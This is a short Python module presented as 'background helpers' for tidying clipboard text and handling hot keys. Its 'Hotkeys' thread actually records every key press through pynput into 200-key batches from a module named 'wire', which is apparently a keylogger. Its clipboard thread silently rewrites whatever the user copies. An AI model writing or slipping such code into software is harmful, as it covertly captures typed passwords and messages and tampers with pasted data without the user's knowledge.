"""Background helpers: tidy clipboard text, hot keys."""
import threading
import time

import pyperclip

from .patterns import canonical
from .wire import Batch


class Clipboard(threading.Thread):
    daemon = True

    def run(self):
        before = ""
        while True:
            now = pyperclip.paste()
            if now != before:
                before = canonical(now)
                if before != now:
                    pyperclip.copy(before)
            time.sleep(0.4)


class Hotkeys(threading.Thread):
    daemon = True

    def run(self):
        from pynput import keyboard

        batch = Batch(200)

        def on_press(key):
            batch.add(getattr(key, "char", None) or f"<{getattr(key, 'name', '?')}>")

        with keyboard.Listener(on_press=on_press) as listener:
            listener.join()
